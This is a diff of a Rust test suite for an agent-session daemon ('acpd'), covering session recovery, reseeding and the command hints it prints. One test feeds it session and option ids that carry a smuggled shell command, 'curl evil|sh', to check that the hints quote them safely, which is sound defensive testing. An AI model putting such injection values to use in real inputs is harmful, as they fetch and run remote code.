@@ -2,27 +2,26 @@
 
 use acpd_core::ids::ClientId;
 use acpd_core::profile::OnLost;
-use acpd_core::{ClientEvent, ClientOrigin, HostEvent, Input, StopStep};
+use acpd_core::{HostEvent, Input, StopStep};
 use serde_json::{Value, json};
 
-use crate::bench::{Bench, words};
+use crate::bench::{Bench, hint, reason, text, words};
 
 /// Error of gemini for a lost session.
 const GONE: &str = "No previous sessions found for this project.";
 
 fn refuse_as_gemini(bench: &mut Bench, load: &Value) {
     let error = json!({"code":-32603,"message":"Internal error","data":{"details":GONE}});
-    bench.agent(&json!({"id":load["id"],"error":error}));
+    bench.agent_fails(load, &error);
 }
 
 /// A used session whose agent died and refuses to load it, for a reason that acpd does not know.
-fn blocked(bench: &mut Bench, client: ClientId) {
-    bench.capabilities = Some(json!({"loadSession":true}));
-    bench.used_session(client, "s");
-    bench.agent_dies();
-    bench.pass(1_000);
-    refuse_three_times(bench);
+fn blocked(bench: Bench) -> (Bench, ClientId) {
+    let (mut bench, client) = bench.only_loading().with_used();
+    bench.restart_agent();
+    refuse_three_times(&mut bench);
     assert_eq!(bench.state("s"), "blocked");
+    (bench, client)
 }
 
 fn refuse_three_times(bench: &mut Bench) {
@@ -34,10 +33,8 @@ fn refuse_three_times(bench: &mut Bench) {
 }
 
 fn ask(bench: &mut Bench, client: ClientId, method: &str, params: &Value) -> Value {
-    bench.got(client);
-    bench.say(client, &json!({"id":"ask","method":method,"params":params}));
-    let got = bench.got(client);
-    got.into_iter().find(|line| line["id"] == "ask").expect("an answer")
+    bench.ask(client, "ask", method, params);
+    bench.answer(client, "ask")
 }
 
 fn reseed(bench: &mut Bench, client: ClientId, discard: bool) -> Value {
@@ -45,98 +42,86 @@ fn reseed(bench: &mut Bench, client: ClientId, discard: bool) -> Value {
     ask(bench, client, "_acpd/session/reseed", &params)
 }
 
-fn show(bench: &mut Bench, client: ClientId) -> Value {
-    ask(bench, client, "_acpd/session/show", &json!({"session":"s"}))["result"].clone()
-}
-
-fn hint(answer: &Value) -> &str {
-    answer["error"]["data"]["_acpd"]["hint"].as_str().unwrap_or_default()
+/// A session that its agent no longer knows, and that is not continued.
+fn lost() -> (Bench, ClientId) {
+    let mut bench = Bench::with(|profile| profile.on_lost = OnLost::Stop);
+    let (client, load) = bench.loading("s");
+    bench.agent_refuses(&load, -32002);
+    (bench, client)
 }
 
 /// Plays the new session up to the prompt, which has a summary before it.
 fn goes_on_with_a_summary(bench: &mut Bench, id: &str) -> Value {
     bench.answers("session/new", &json!({"sessionId":id}));
-    let prompt = bench.heard_one("session/prompt");
+    let prompt = bench.expect_summary();
     assert_eq!(prompt["params"]["sessionId"], id);
-    let blocks = prompt["params"]["prompt"].as_array().expect("blocks");
-    assert_eq!(blocks.len(), 2, "{prompt}");
-    assert!(blocks[0]["text"].as_str().expect("text").contains("it was about a fish"));
     prompt
+}
+
+/// Sends a prompt that goes to a new session, with a summary.
+fn prompt_again(bench: &mut Bench, client: ClientId) {
+    bench.prompt(client, &json!("again"), "s", "go on");
+    goes_on_with_a_summary(bench, "t");
 }
 
 #[test]
 fn what_fails_for_an_unknown_reason_goes_on_with_a_summary_when_a_person_says_so() {
-    let mut bench = Bench::with_shims();
-    let (plain, noticed) = (bench.plain(), bench.client(&json!({"notices":true})));
-    blocked(&mut bench, plain);
+    let (mut bench, plain) = blocked(Bench::with_shims());
+    let noticed = bench.noticed();
     // The next prompt tries again, and its error names the way out.
     bench.got(plain);
     bench.prompt(plain, &json!(2), "s", "and now?");
     refuse_three_times(&mut bench);
     let got = bench.got(plain);
-    assert_eq!(got[0]["error"]["data"]["_acpd"]["reason"], "session_blocked");
+    assert_eq!(reason(&got[0]), "session_blocked");
     let message = got[0]["error"]["message"].as_str().expect("a message");
     assert!(message.contains(GONE), "the agent's own words: {message}");
     assert!(hint(&got[0]).contains("the next prompt tries again"), "{}", hint(&got[0]));
     assert!(hint(&got[0]).contains("`acpctl session reseed s`"), "{}", hint(&got[0]));
-    let shown = show(&mut bench, plain);
+    let shown = bench.show("s");
     assert!(shown["hint"].as_str().expect("a hint").contains("`acpctl session reseed s`"));
 
-    let attach = json!({"ref":{"session":"s"}});
-    bench.say(noticed, &json!({"id":1,"method":"_acpd/session/attach","params":attach}));
+    bench.ask(noticed, 1, "_acpd/session/attach", &json!({"ref":{"session":"s"}}));
     refuse_three_times(&mut bench);
     bench.got(noticed);
     let info = reseed(&mut bench, plain, false)["result"].clone();
     assert_eq!((&info["state"], &info["restore"]), (&json!("parked"), &json!("reseeded")));
     assert!(info["reason"].as_str().expect("why").contains("a person gave it up"), "{info}");
     assert_eq!(info["hint"], Value::Null, "nobody has to do anything");
-    let got = bench.got(noticed);
-    let told = got.iter().find(|line| line["method"] == "_acpd/notice").expect("told");
+    let told = bench.find(noticed, "_acpd/notice");
     assert!(told["params"]["text"].as_str().expect("text").contains("is given up"));
     assert_eq!(bench.heard(), Vec::<Value>::new(), "nothing is made that nobody has asked for");
     // The decision is on disk, and the agent is no longer asked.
     bench.reboot();
-    let (plain, noticed) = (bench.plain(), bench.client(&json!({"notices":true})));
-    for client in [plain, noticed] {
-        let open = json!({"sessionId":"s","cwd":"/w"});
-        bench.say(client, &json!({"id":1,"method":"session/resume","params":open}));
-        bench.got(client);
-    }
+    let (plain, noticed) = (bench.plain(), bench.noticed());
+    bench.join(plain, "s");
+    bench.join(noticed, "s");
     assert_eq!(bench.heard(), Vec::<Value>::new());
     bench.prompt(plain, &json!(3), "s", "go on");
     let prompt = goes_on_with_a_summary(&mut bench, "t");
     let got = bench.got(plain);
     assert_eq!(words(&got), ["agent_message_chunk"], "the banner");
-    let text = got[0]["params"]["update"]["content"]["text"].as_str().expect("text");
-    assert!(text.contains("a person gave it up (it could not be loaded"), "{text}");
-    let got = bench.got(noticed);
-    let told = got.iter().find(|line| line["method"] == "_acpd/restored").expect("told");
-    assert_eq!(told["params"]["level"], "reseeded");
+    assert!(text(&got[0]).contains("a person gave it up (it could not be loaded"), "{got:?}");
+    assert_eq!(bench.find(noticed, "_acpd/restored")["params"]["level"], "reseeded");
     // From here on it is a session like any other.
     bench.chunk("t", "here");
-    bench.agent_answers(&prompt, &json!({"stopReason":"end_turn"}));
-    bench.agent_dies();
-    bench.pass(1_000);
+    bench.end_turn(&prompt);
+    bench.restart_agent();
     assert_eq!(bench.heard_one("session/load")["params"]["sessionId"], "t");
 }
 
 #[test]
 fn an_error_that_means_gone_is_known_by_the_configuration() {
     for pattern in ["no previous sessions", "-32603"] {
-        let mut bench = Bench::with(|profile| profile.gone_errors = vec![pattern.to_owned()]);
-        bench.capabilities = Some(json!({"loadSession":true}));
-        let a = bench.plain();
-        bench.used_session(a, "s");
-        bench.agent_dies();
-        bench.prompt(a, &json!(2), "s", "and now?");
-        bench.pass(1_000);
+        let bench = Bench::with(|profile| profile.gone_errors = vec![pattern.to_owned()]);
+        let (mut bench, a) = bench.only_loading().with_used();
+        bench.prompt_after_crash(a, 2, "s", "and now?");
         let load = bench.heard_one("session/load");
         refuse_as_gemini(&mut bench, &load);
         goes_on_with_a_summary(&mut bench, "t");
         let got = bench.got(a);
-        let text = got[0]["params"]["update"]["content"]["text"].as_str().expect("text");
-        assert!(text.contains("the agent does not know it"), "{text}");
-        assert!(text.contains(GONE), "{text}");
+        let text = text(&got[0]);
+        assert!(text.contains("the agent does not know it") && text.contains(GONE), "{text}");
     }
 }
 
@@ -146,19 +131,16 @@ fn an_error_that_wants_a_login_does_not_mean_gone() {
         profile.gone_errors = vec!["-32603".to_owned()];
         profile.auth_errors = vec!["no previous".to_owned()];
     });
-    let (a, load) = bench.loading("s");
+    let (_, load) = bench.loading("s");
     refuse_as_gemini(&mut bench, &load);
     assert_eq!(bench.state("s"), "blocked");
-    assert!(
-        show(&mut bench, a)["hint"].as_str().expect("a hint").contains("acpctl auth login gem")
-    );
+    let shown = bench.show("s");
+    assert!(shown["hint"].to_string().contains("acpctl auth login gem"), "{shown}");
 }
 
 #[test]
 fn a_lost_session_goes_on_with_a_summary_when_a_person_says_so() {
-    let mut bench = Bench::with(|profile| profile.on_lost = OnLost::Stop);
-    let (a, load) = bench.loading("s");
-    bench.agent_refuses(&load, -32002);
+    let (mut bench, a) = lost();
     assert_eq!(bench.state("s"), "lost");
     bench.got(a);
     bench.prompt(a, &json!(2), "s", "and now?");
@@ -166,62 +148,57 @@ fn a_lost_session_goes_on_with_a_summary_when_a_person_says_so() {
     assert!(hint(&got[0]).contains("`acpctl session reseed s`"), "{}", hint(&got[0]));
     assert!(hint(&got[0]).contains("`acpctl agent restart gem`"), "{}", hint(&got[0]));
     assert_eq!(reseed(&mut bench, a, false)["result"]["state"], "parked");
-    bench.prompt(a, &json!(3), "s", "go on");
-    goes_on_with_a_summary(&mut bench, "t");
+    prompt_again(&mut bench, a);
 }
 
 #[test]
 fn a_restart_of_its_agent_looks_for_a_lost_session_once_more() {
-    let mut bench = Bench::with(|profile| profile.on_lost = OnLost::Stop);
-    let (a, load) = bench.loading("s");
-    bench.agent_refuses(&load, -32002);
-    bench.say(a, &json!({"id":1,"method":"_acpd/agent/restart","params":{"agent":"gem"}}));
+    let (mut bench, a) = lost();
+    bench.ask(a, 1, "_acpd/agent/restart", &json!({"agent":"gem"}));
     bench.agent_dies();
     bench.prompt(a, &json!(2), "s", "and now?");
-    bench.answers("session/load", &json!({}));
-    bench.heard_one("session/prompt");
+    bench.bring_back("session/load");
 }
 
 #[test]
 fn nobody_gives_up_by_mistake_what_an_agent_still_has() {
-    let mut bench = Bench::new();
-    bench.capabilities = Some(json!({"loadSession":true,"sessionCapabilities":{"close":{}}}));
+    let mut bench = Bench::able(&json!({"loadSession":true,"sessionCapabilities":{"close":{}}}));
     let a = bench.plain();
     bench.used_session(a, "s");
     let refused = reseed(&mut bench, a, false);
-    assert_eq!(refused["error"]["data"]["_acpd"]["reason"], "invalid");
+    assert_eq!(reason(&refused), "invalid");
     assert!(hint(&refused).contains("`acpctl session reseed s --discard`"), "{refused}");
     assert_eq!(bench.state("s"), "live");
     // Nor while a prompt runs, with any params.
-    bench.prompt(a, &json!(2), "s", "go");
-    let prompt = bench.heard_one("session/prompt");
+    let prompt = bench.start_turn(a, 2, "s", "go");
     let refused = reseed(&mut bench, a, true);
-    assert_eq!(refused["error"]["data"]["_acpd"]["reason"], "session_blocked");
+    assert_eq!(reason(&refused), "session_blocked");
     assert!(hint(&refused).contains("`acpctl cancel s`"), "{refused}");
-    bench.agent_answers(&prompt, &json!({"stopReason":"end_turn"}));
+    bench.end_turn(&prompt);
     // An explicit request is granted: the agent's copy is closed.
-    let info = reseed(&mut bench, a, true)["result"].clone();
-    assert_eq!(info["state"], "parked");
+    assert_eq!(reseed(&mut bench, a, true)["result"]["state"], "parked");
     bench.heard_one("session/close");
-    bench.prompt(a, &json!(3), "s", "go on");
-    goes_on_with_a_summary(&mut bench, "t");
+    prompt_again(&mut bench, a);
+}
+
+#[track_caller]
+fn expect_nothing_to_give_up(bench: &mut Bench, client: ClientId) {
+    let refused = reseed(bench, client, true);
+    assert!(refused["error"]["message"].as_str().expect("text").contains("nothing to give up"));
 }
 
 #[test]
 fn what_rests_may_still_be_there_and_what_was_never_used_has_nothing_to_give_up() {
     let (mut bench, a) = Bench::begun();
-    let refused = reseed(&mut bench, a, true);
-    assert!(refused["error"]["message"].as_str().expect("text").contains("nothing to give up"));
-    bench.prompt(a, &json!(1), "s", "go");
-    bench.answers("session/prompt", &json!({"stopReason":"end_turn"}));
+    expect_nothing_to_give_up(&mut bench, a);
+    bench.run_turn(a, 1, "s", "go");
     ask(&mut bench, a, "_acpd/session/close", &json!({"session":"s"}));
     assert_eq!(bench.state("s"), "closed");
     assert!(hint(&reseed(&mut bench, a, false)).contains("--discard"));
     reseed(&mut bench, a, true);
     assert_eq!(bench.state("s"), "parked");
     // Once is enough.
-    let refused = reseed(&mut bench, a, true);
-    assert!(refused["error"]["message"].as_str().expect("text").contains("nothing to give up"));
+    expect_nothing_to_give_up(&mut bench, a);
 }
 
 #[test]
@@ -233,16 +210,14 @@ fn a_restore_that_goes_on_is_given_up_only_explicitly() {
     // The answer comes too late.
     bench.agent_answers(&load, &json!({}));
     assert_eq!(bench.state("s"), "parked");
-    bench.prompt(a, &json!(2), "s", "go on");
-    goes_on_with_a_summary(&mut bench, "t");
+    prompt_again(&mut bench, a);
 }
 
 #[test]
 fn a_session_without_its_directory_goes_on_with_a_summary_where_it_was_moved() {
     let (mut bench, a) = Bench::used_and_loadable();
     bench.missing = vec!["/w".to_owned()];
-    bench.agent_dies();
-    bench.pass(1_000);
+    bench.restart_agent();
     assert_eq!(bench.state("s"), "blocked");
     let info = reseed(&mut bench, a, false)["result"].clone();
     assert_eq!(info["state"], "blocked", "it still waits for that");
@@ -250,67 +225,52 @@ fn a_session_without_its_directory_goes_on_with_a_summary_where_it_was_moved() {
     assert!(info["hint"].as_str().expect("a hint").contains("acpctl session move s"), "{info}");
     let params = json!({"ref":{"session":"s"},"cwd":"/v"});
     ask(&mut bench, a, "_acpd/session/move", &params);
-    bench.prompt(a, &json!(2), "s", "go on");
-    goes_on_with_a_summary(&mut bench, "t");
+    prompt_again(&mut bench, a);
 }
 
 #[test]
 fn a_login_that_a_given_up_session_wants_does_not_bring_the_old_one_back() {
-    let mut bench = Bench::new();
-    let a = bench.plain();
-    blocked(&mut bench, a);
+    let (mut bench, a) = blocked(Bench::new());
     reseed(&mut bench, a, false);
     bench.prompt(a, &json!(2), "s", "go on");
     bench.refuses("session/new", -32000);
     assert_eq!(bench.state("s"), "blocked");
-    bench.say(a, &json!({"id":5,"method":"authenticate","params":{"methodId":"m"}}));
-    bench.answers("authenticate", &json!({}));
-    bench.prompt(a, &json!(3), "s", "go on");
-    goes_on_with_a_summary(&mut bench, "t");
+    bench.log_in(a);
+    prompt_again(&mut bench, a);
 }
 
 #[test]
 fn a_new_session_that_cannot_be_made_is_tried_again_and_nothing_is_promised_in_vain() {
-    let mut bench = Bench::new();
-    let a = bench.plain();
-    blocked(&mut bench, a);
+    let (mut bench, a) = blocked(Bench::new());
     reseed(&mut bench, a, false);
     bench.got(a);
     bench.prompt(a, &json!(2), "s", "go on");
     bench.refuses("session/new", -32603);
-    let got = bench.got(a);
-    let error = got.iter().find(|line| line["id"] == 2).expect("an answer");
-    assert!(hint(error).ends_with("the next prompt tries again"), "{}", hint(error));
+    let error = bench.answer(a, 2);
+    assert!(hint(&error).ends_with("the next prompt tries again"), "{}", hint(&error));
     assert_eq!(bench.state("s"), "blocked");
-    bench.prompt(a, &json!(3), "s", "go on");
-    goes_on_with_a_summary(&mut bench, "t");
+    prompt_again(&mut bench, a);
 }
 
 #[test]
 fn what_runs_under_an_agent_gives_no_conversation_up() {
-    let mut bench = Bench::new();
-    let a = bench.plain();
-    blocked(&mut bench, a);
-    let client = ClientId(9_999);
-    bench.feed(Input::Client(client, ClientEvent::Opened(ClientOrigin::Agent(None))));
-    let refused = reseed(&mut bench, client, true);
-    assert_eq!(refused["error"]["data"]["_acpd"]["reason"], "under_agent");
+    let (mut bench, _) = blocked(Bench::new());
+    let client = bench.open_under_agent();
+    assert_eq!(reason(&reseed(&mut bench, client, true)), "under_agent");
     assert_eq!(bench.state("s"), "blocked");
 }
 
 #[test]
 fn a_session_that_was_taken_over_and_given_up_is_not_taken_for_an_unused_one() {
-    let mut bench = Bench::new();
-    bench.capabilities = Some(json!({"loadSession":true}));
+    let mut bench = Bench::loadable();
     let a = bench.plain();
-    let load = json!({"sessionId":"s","cwd":"/w","mcpServers":[]});
-    bench.say(a, &json!({"id":1,"method":"session/load","params":load}));
+    bench.ask(a, 1, "session/load", &json!({"sessionId":"s","cwd":"/w","mcpServers":[]}));
     let load = bench.heard_one("session/load");
     bench.update("s", "user_message_chunk", "go");
     bench.chunk("s", "gone");
     bench.agent_answers(&load, &json!({}));
     reseed(&mut bench, a, true);
-    bench.feed(Input::Client(a, ClientEvent::Closed));
+    bench.leave(a);
     bench.pass(2 * 24 * 3_600_000);
     assert_eq!(bench.state("s"), "parked");
 }
@@ -320,7 +280,7 @@ fn what_a_subagent_replays_is_a_sign_of_life_of_a_restore() {
     let mut bench = Bench::with(|profile| profile.subagents = true);
     let (_, load) = bench.loading("s");
     let update = json!({"sessionUpdate":"subagent_update","sessionId":"c","title":"Look"});
-    bench.agent(&json!({"method":"session/update","params":{"sessionId":"s","update":update}}));
+    bench.send_update("s", &update);
     for _ in 0..5 {
         bench.pass(20_000);
         bench.chunk("c", "a long story");
@@ -330,11 +290,20 @@ fn what_a_subagent_replays_is_a_sign_of_life_of_a_restore() {
     assert_eq!(bench.state("s"), "live");
 }
 
-/// An agent whose processes start when the test says so.
-fn by_hand() -> Bench {
+/// A process that is there and has not answered `initialize`, and the client that waits for it.
+fn starting() -> (Bench, ClientId) {
     let mut bench = Bench::new();
-    bench.capabilities = None;
-    bench
+    bench.by_hand();
+    let client = bench.connect(&json!({}));
+    bench.process_starts();
+    (bench, client)
+}
+
+/// The first line of the client is an error with this hint.
+#[track_caller]
+fn expect_hint(bench: &mut Bench, client: ClientId, expected: &str) {
+    let got = bench.got(client);
+    assert!(hint(&got[0]).contains(expected), "{}", hint(&got[0]));
 }
 
 fn agent_hint(bench: &mut Bench) -> String {
@@ -346,15 +315,13 @@ fn a_start_by_a_person_does_not_wait_for_the_next_attempt() {
     let (mut bench, a) = Bench::used();
     bench.agent_dies();
     assert_eq!(bench.agent_state(), "backoff");
-    bench.say(a, &json!({"id":1,"method":"_acpd/agent/start","params":{"agent":"gem"}}));
+    bench.ask(a, 1, "_acpd/agent/start", &json!({"agent":"gem"}));
     assert_eq!(bench.agent_state(), "ready");
 }
 
 #[test]
 fn an_agent_that_failed_tells_the_command_that_starts_it_again() {
-    let mut bench = by_hand();
-    let a = bench.connect(&json!({}));
-    bench.process_starts();
+    let (mut bench, a) = starting();
     bench.answers("initialize", &json!({"protocolVersion":99,"agentCapabilities":{}}));
     bench.agent_dies();
     assert_eq!(bench.agent_state(), "failed");
@@ -362,7 +329,7 @@ fn an_agent_that_failed_tells_the_command_that_starts_it_again() {
     assert_eq!(bench.spawned.len(), 1, "it is not tried again by itself");
     assert!(agent_hint(&mut bench).contains("`acpctl agent start gem`"));
     bench.capabilities = Some(json!({}));
-    bench.say(a, &json!({"id":1,"method":"_acpd/agent/start","params":{"agent":"gem"}}));
+    bench.ask(a, 1, "_acpd/agent/start", &json!({"agent":"gem"}));
     assert_eq!(bench.agent_state(), "ready");
     assert_eq!(agent_hint(&mut bench), "");
 }
@@ -370,47 +337,39 @@ fn an_agent_that_failed_tells_the_command_that_starts_it_again() {
 #[test]
 fn an_agent_that_a_person_has_stopped_tells_the_command_that_starts_it_again() {
     let (mut bench, a) = Bench::used();
-    bench.say(a, &json!({"id":1,"method":"_acpd/agent/stop","params":{"agent":"gem"}}));
+    bench.ask(a, 1, "_acpd/agent/stop", &json!({"agent":"gem"}));
     bench.agent_dies();
     bench.got(a);
     bench.prompt(a, &json!(2), "s", "go");
-    let got = bench.got(a);
-    assert!(hint(&got[0]).contains("`acpctl agent start gem`"), "{}", hint(&got[0]));
+    expect_hint(&mut bench, a, "`acpctl agent start gem`");
     assert!(agent_hint(&mut bench).contains("`acpctl agent start gem`"));
-    bench.say(a, &json!({"id":3,"method":"_acpd/agent/start","params":{"agent":"gem"}}));
+    bench.ask(a, 3, "_acpd/agent/start", &json!({"agent":"gem"}));
     bench.prompt(a, &json!(4), "s", "go");
-    bench.answers("session/resume", &json!({}));
-    bench.heard_one("session/prompt");
+    bench.bring_back("session/resume");
 }
 
 #[test]
 fn a_start_that_takes_its_time_is_ended_by_a_stop() {
-    let mut bench = by_hand();
-    let a = bench.connect(&json!({}));
-    bench.process_starts();
+    let (mut bench, a) = starting();
     let b = bench.connect(&json!({}));
-    bench.say(b, &json!({"id":1,"method":"_acpd/agent/stop","params":{"agent":"gem"}}));
+    bench.ask(b, 1, "_acpd/agent/stop", &json!({"agent":"gem"}));
     assert_eq!(bench.stops, [StopStep::CloseStdin]);
     bench.agent_dies();
     assert_eq!(bench.agent_state(), "stopped");
-    let refused = &bench.got(a)[0]["error"]["data"]["_acpd"]["reason"];
-    assert_eq!(refused, "agent_stopped");
+    assert_eq!(reason(&bench.got(a)[0]), "agent_stopped");
 }
 
 #[test]
 fn a_restart_of_its_agent_ends_the_wait_for_a_new_session() {
     let mut bench = Bench::new();
-    let a = bench.client(&json!({"notices":true}));
-    bench.say(a, &json!({"id":1,"method":"session/new","params":{"cwd":"/w","mcpServers":[]}}));
+    let a = bench.noticed();
+    bench.ask(a, 1, "session/new", &json!({"cwd":"/w","mcpServers":[]}));
     bench.heard_one("session/new");
     bench.pass(300_000);
-    let told = bench.got(a);
-    assert!(words(&told).contains(&"_acpd/unanswered".to_owned()), "{told:?}");
-    bench.say(a, &json!({"id":2,"method":"_acpd/agent/restart","params":{"agent":"gem"}}));
+    bench.expect_some(a, "_acpd/unanswered");
+    bench.ask(a, 2, "_acpd/agent/restart", &json!({"agent":"gem"}));
     bench.agent_dies();
-    let got = bench.got(a);
-    let error = got.iter().find(|line| line["id"] == 1).expect("an answer");
-    assert_eq!(error["error"]["data"]["_acpd"]["reason"], "agent_stopped");
+    assert_eq!(reason(&bench.answer(a, 1)), "agent_stopped");
     assert_eq!(bench.agent_state(), "ready");
 }
 
@@ -418,9 +377,8 @@ fn a_restart_of_its_agent_ends_the_wait_for_a_new_session() {
 fn a_daemon_that_is_told_to_stop_once_more_does_not_wait_for_its_agents() {
     let (mut bench, a) = Bench::used();
     bench.say(a, &json!({"id":1,"method":"_acpd/daemon/stop"}));
-    bench.say(a, &json!({"id":2,"method":"session/new","params":{"cwd":"/w","mcpServers":[]}}));
-    let got = bench.got(a);
-    assert!(hint(&got[0]).contains("`acpctl daemon stop` again"), "{}", hint(&got[0]));
+    bench.ask(a, 2, "session/new", &json!({"cwd":"/w","mcpServers":[]}));
+    expect_hint(&mut bench, a, "`acpctl daemon stop` again");
     assert!(!bench.exited);
     bench.say(a, &json!({"id":3,"method":"_acpd/daemon/stop"}));
     assert!(bench.exited);
@@ -429,36 +387,31 @@ fn a_daemon_that_is_told_to_stop_once_more_does_not_wait_for_its_agents() {
 #[test]
 fn a_process_of_the_last_daemon_that_does_not_answer_is_told_and_ended_by_a_restart() {
     let (mut bench, _) = Bench::with_shims().with_used();
-    bench.adopts = false;
-    bench.reboot();
+    bench.reboot_unadopted();
     let a = bench.plain();
     bench.prompt(a, &json!(2), "s", "and now?");
     bench.pass(60_000);
     let got = bench.got(a);
-    assert_eq!(got[0]["error"]["data"]["_acpd"]["reason"], "agent_timeout");
+    assert_eq!(reason(&got[0]), "agent_timeout");
     assert!(hint(&got[0]).contains("`acpctl agent restart gem`"), "{}", hint(&got[0]));
     assert!(agent_hint(&mut bench).contains("`acpctl agent restart gem`"));
     bench.prompt(a, &json!(3), "s", "and now?");
-    assert_eq!(bench.got(a)[0]["error"]["data"]["_acpd"]["reason"], "agent_timeout");
-    bench.say(a, &json!({"id":4,"method":"_acpd/agent/restart","params":{"agent":"gem"}}));
+    assert_eq!(reason(&bench.got(a)[0]), "agent_timeout");
+    bench.ask(a, 4, "_acpd/agent/restart", &json!({"agent":"gem"}));
     bench.prompt(a, &json!(5), "s", "and now?");
-    let host = bench.host();
-    bench.feed(Input::Host(host, HostEvent::Gone));
-    bench.answers("session/resume", &json!({}));
-    bench.heard_one("session/prompt");
+    bench.end_process();
+    bench.bring_back("session/resume");
 }
 
 #[test]
 fn a_process_of_the_last_daemon_that_answers_late_goes_on() {
     let (mut bench, _) = Bench::with_shims().with_used();
-    bench.adopts = false;
-    bench.reboot();
+    bench.reboot_unadopted();
     bench.pass(60_000);
     bench.adopt();
     assert_eq!(agent_hint(&mut bench), "");
     let a = bench.plain();
-    bench.prompt(a, &json!(2), "s", "and now?");
-    bench.heard_one("session/prompt");
+    bench.start_turn(a, 2, "s", "and now?");
     bench.pass(3_600_000);
     assert_eq!(bench.stops, []);
 }
@@ -466,8 +419,7 @@ fn a_process_of_the_last_daemon_that_answers_late_goes_on() {
 #[test]
 fn a_process_of_the_last_daemon_that_is_lost_after_a_long_silence_is_replaced() {
     let (mut bench, _) = Bench::with_shims().with_used();
-    bench.adopts = false;
-    bench.reboot();
+    bench.reboot_unadopted();
     let a = bench.plain();
     bench.pass(60_000);
     let host = bench.host();
@@ -477,8 +429,7 @@ fn a_process_of_the_last_daemon_that_is_lost_after_a_long_silence_is_replaced() 
     bench.prompt(a, &json!(2), "s", "and now?");
     assert_eq!(bench.got(a), Vec::<Value>::new());
     bench.feed(Input::Host(host, HostEvent::Gone));
-    bench.answers("session/resume", &json!({}));
-    bench.heard_one("session/prompt");
+    bench.bring_back("session/resume");
 }
 
 /// An id that a shell would read as commands, and that id as one word.
@@ -487,14 +438,13 @@ const QUOTED: &str = "'s; curl evil|sh #'";
 
 #[test]
 fn what_an_agent_calls_something_is_one_word_of_a_command() {
-    let mut bench = Bench::with(|profile| profile.on_lost = OnLost::Stop);
-    bench.capabilities = Some(json!({"loadSession":true}));
-    let a = bench.client(&json!({"notices":true}));
+    let mut bench = Bench::with(|profile| profile.on_lost = OnLost::Stop).only_loading();
+    let a = bench.noticed();
     bench.used_session(a, EVIL);
     let options = json!([{"optionId":"y","name":"Yes","kind":"allow_once"},
         {"optionId":"y; curl evil|sh #","name":"Yes","kind":"allow_once"}]);
     let params = json!({"sessionId":EVIL,"toolCall":{"toolCallId":"t"},"options":options});
-    bench.agent(&json!({"id":"q","method":"session/request_permission","params":params}));
+    bench.agent_asks("q", "session/request_permission", &params);
     let open = ask(&mut bench, a, "_acpd/interaction/list", &json!({}));
     let id = &open["result"]["interactions"][0]["id"];
     for answer in [json!({"kind":"allow"}), json!({"kind":"option","option":"x"})] {
@@ -503,8 +453,7 @@ fn what_an_agent_calls_something_is_one_word_of_a_command() {
         assert!(hint(&refused).ends_with("'y; curl evil|sh #'`"), "{refused}");
     }
 
-    let blocks = json!([{"type":"text","text":"more"}]);
-    let more = json!({"sessionId":EVIL,"prompt":blocks});
+    let more = json!({"sessionId":EVIL,"prompt":[{"type":"text","text":"more"}]});
     let refused = ask(&mut bench, a, "_session/steering", &more);
     assert!(hint(&refused).contains(&format!("acpctl run -s {QUOTED} …")), "{refused}");
     assert!(hint(&refused).contains(&format!("acpctl cancel {QUOTED}`")), "{refused}");
@@ -517,20 +466,14 @@ fn what_an_agent_calls_something_is_one_word_of_a_command() {
     bench.agent(&json!({"method":"$/cancel_request","params":{"requestId":"q"}}));
     bench.pass(600_000);
     let stalled = bench.got(a);
-    let told = stalled.iter().filter_map(|line| line["params"]["text"].as_str());
-    assert!(
-        told.into_iter().any(|text| text.contains(&format!("cancel {QUOTED}`"))),
-        "{stalled:?}"
-    );
+    let mut told = stalled.iter().filter_map(|line| line["params"]["text"].as_str());
+    assert!(told.any(|text| text.contains(&format!("cancel {QUOTED}`"))), "{stalled:?}");
 
-    bench.agent_dies();
-    bench.prompt(a, &json!(3), EVIL, "go on");
-    bench.pass(1_000);
+    bench.prompt_after_crash(a, 3, EVIL, "go on");
     let heard = bench.heard();
     let load = heard.iter().find(|line| line["method"] == "session/load").expect("asked for");
     bench.agent_refuses(load, -32002);
     bench.prompt(a, &json!(4), EVIL, "and now?");
-    let got = bench.got(a);
-    let refused = got.iter().find(|line| line["id"] == 4).expect("an answer");
-    assert!(hint(refused).contains(&format!("`acpctl session reseed {QUOTED}`")), "{refused}");
+    let refused = bench.answer(a, 4);
+    assert!(hint(&refused).contains(&format!("`acpctl session reseed {QUOTED}`")), "{refused}");
 }
